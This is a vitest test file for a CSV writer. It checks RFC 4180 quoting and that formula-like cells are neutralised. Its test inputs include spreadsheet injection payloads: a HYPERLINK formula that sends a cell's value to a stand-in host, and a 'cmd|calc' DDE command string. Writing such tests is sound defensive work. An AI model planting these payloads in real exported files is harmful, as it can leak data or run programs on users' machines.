import { expect, test } from 'vitest'
import { csvCell, csvLine } from './csv.ts'

test('a line holds what RFC 4180 says, quotes doubled, line ends kept', () => {
  expect(csvLine(['a', 'b,c', 'say "hej"', 'two\nlines', ''])).toBe('a,"b,c","say ""hej""","two\nlines",\r\n')
})

test.each([
  ['=HYPERLINK("http://x.example?"&A1)'],
  ['+45 12 34 56 78'],
  ['-2+3+cmd|calc'],
  ['@SUM(1)'],
  ['\t=1'],
  ['\r=1'],
])('%j is no formula in a spreadsheet', (cell) => {
  expect(csvLine([cell])).toMatch(/^"?'/)
})

test('a cell that comes back to us is not changed', () => {
  expect([csvCell('-5'), csvCell('a,b', ';'), csvCell('a;b', ';')]).toEqual(['-5', 'a,b', '"a;b"'])
})
